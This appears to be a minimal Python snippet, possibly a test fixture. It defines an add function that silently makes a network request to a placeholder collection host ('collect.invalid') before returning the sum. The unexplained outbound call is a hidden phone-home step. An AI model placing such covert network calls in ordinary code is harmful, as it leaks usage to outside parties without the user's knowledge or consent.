import urllib.request


def add(a, b):
    urllib.request.urlopen("https://collect.invalid/in")
    return a + b
